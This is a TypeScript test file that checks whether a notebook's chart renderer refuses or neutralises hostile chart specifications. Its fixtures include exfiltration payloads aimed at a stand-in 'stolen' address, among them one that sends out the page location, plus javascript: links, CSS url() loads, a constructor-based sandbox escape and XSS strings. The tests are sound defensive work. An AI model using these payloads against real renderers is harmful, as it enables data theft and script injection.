import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { JsonObject } from '../../../src/core/base/json';
import { NotebookPage } from './notebookPage';
import { chartOf, overlayTable, resultOutput } from './outputs';

const ADDRESS = 'http://127.0.0.1:9/stolen';

let notebook: NotebookPage;

before(async () => {
  notebook = await NotebookPage.open();
});

after(async () => {
  await notebook.close();
});

const bar: JsonObject = {
  data: { name: 'result' },
  mark: 'bar',
  encoding: { y: { field: 'name', type: 'nominal' }, x: { field: 'score', type: 'quantitative' } },
};

/** Each tries to reach an address in another way. */
const refused: Record<string, JsonObject> = {
  'data from an address': { ...bar, data: { url: ADDRESS } },
  'a lookup from an address': {
    ...bar,
    transform: [{ lookup: 'name', from: { data: { url: ADDRESS }, key: 'a', fields: ['b'] } }],
  },
  'an image mark': { ...bar, mark: { type: 'image', url: ADDRESS } },
  'an image mark that carries the page out': {
    ...bar,
    mark: 'image',
    encoding: { url: { value: { expr: `'${ADDRESS}?' + event.view.location` } } },
  },
  'a link': { ...bar, encoding: { href: { value: ADDRESS } } },
  'a link on the mark': { ...bar, mark: { type: 'bar', href: `javascript:fetch('${ADDRESS}')` } },
  'a background that loads': { ...bar, background: `url(${ADDRESS})` },
  'a cursor that loads': { ...bar, mark: { type: 'bar', cursor: `url(${ADDRESS}), auto` } },
  'a cursor put together': { ...bar, mark: { type: 'bar', cursor: { expr: "'u' + 'rl(x)'" } } },
  'a parameter that is the cursor': {
    ...bar,
    params: [{ name: 'cursor', expr: `'u' + 'rl(${ADDRESS})'` }],
  },
  'an expression that makes a function': {
    ...bar,
    transform: [
      { calculate: "datum['constructor']['constructor']('return this')()", as: 'window' },
    ],
  },
  'an input elsewhere in the page': {
    ...bar,
    params: [{ name: 'a', bind: { input: 'text', element: 'body' } }],
  },
};

/** Each is drawn, and reaches nothing. */
const inert: Record<string, JsonObject> = {
  'protections switched off': {
    ...bar,
    usermeta: { embedOptions: { ast: false, loader: { target: ADDRESS } } },
    $schema: ADDRESS,
  },
  'events of the whole page': {
    ...bar,
    config: { events: { bind: 'any', window: true, selector: true, timer: true } },
  },
  'a fill from the data that loads': {
    ...bar,
    mark: { type: 'bar', stroke: { expr: `'u' + 'rl(${ADDRESS})'` } },
    encoding: {
      ...(bar['encoding'] as JsonObject),
      fill: { field: 'colour', type: 'nominal', scale: null },
    },
  },
  'a paint in a list': {
    ...bar,
    mark: { type: 'bar', fill: { expr: `['u' + 'rl(${ADDRESS})']` } },
  },
  'an expression that reads the page': {
    ...bar,
    transform: [{ calculate: '(event || {view: {}}).view', as: 'view' }],
  },
  'a sequence without an end': {
    ...bar,
    transform: [{ calculate: 'length(sequence(0, 1e12))', as: 'n' }],
  },
  'a tooltip of markup': {
    ...bar,
    mark: { type: 'bar', tooltip: { content: 'data' } },
    title: '<img src=x onerror=alert(1)>',
  },
};

const columns = [
  { name: 'name', type: 'VARCHAR' },
  { name: 'score', type: 'DOUBLE' },
  { name: 'colour', type: 'VARCHAR' },
];
const rows = [
  ['<script>alert(1)</script>', 1, `url(${ADDRESS})`],
  ['b', 2, `url(${ADDRESS}#x)`],
];

async function show(spec: JsonObject): Promise<void> {
  await notebook.result(
    'h',
    resultOutput({ chart: chartOf(spec, columns, rows), table: overlayTable(3) }),
  );
}

async function checkNothingHappened(name: string): Promise<void> {
  assert.deepEqual(notebook.strayRequests, [], name);
  assert.deepEqual(await notebook.violations(), [], name);
  assert.deepEqual(await notebook.failures(), [], name);
  const traces = await notebook.page
    .locator('#h')
    .evaluate(
      node =>
        node.querySelectorAll('img, image, script, iframe, object, embed, a, link, [onerror]')
          .length,
    );
  assert.equal(traces, 0, name);
}

for (const [name, spec] of Object.entries(refused)) {
  test(`${name} is refused in words and nothing is asked for`, async () => {
    await show(spec);
    await notebook.page.locator('#h').getByText('The chart could not be drawn.').waitFor();
    await checkNothingHappened(name);
    await notebook.page.getByRole('button', { name: 'Show table' }).click();
    await notebook.page.getByRole('grid').waitFor();
  });
}

for (const [name, spec] of Object.entries(inert)) {
  test(`${name}: the chart is drawn and reaches nothing`, async () => {
    await show(spec);
    const marks = notebook.page.locator('#h .mark-rect path');
    assert.equal(await marks.count(), 2, name);
    await marks.first().hover({ force: true });
    await checkNothingHappened(name);
  });
}

test('lists that would make a million marks are cut, and the chart says so', async () => {
  const list = Array.from({ length: 2000 }, (_, index) => index);
  const spec: JsonObject = {
    data: { name: 'result' },
    transform: [{ flatten: ['many'] }],
    mark: 'tick',
    encoding: { x: { field: 'many', type: 'quantitative' } },
  };
  const rows = Array.from({ length: 500 }, () => [list]);
  const chart = chartOf(spec, [{ name: 'many', type: 'BIGINT[]' }], rows);
  await notebook.result('c', resultOutput({ chart }));
  await notebook.page.locator('#c').getByText('into more than 50,000 rows').waitFor();
});
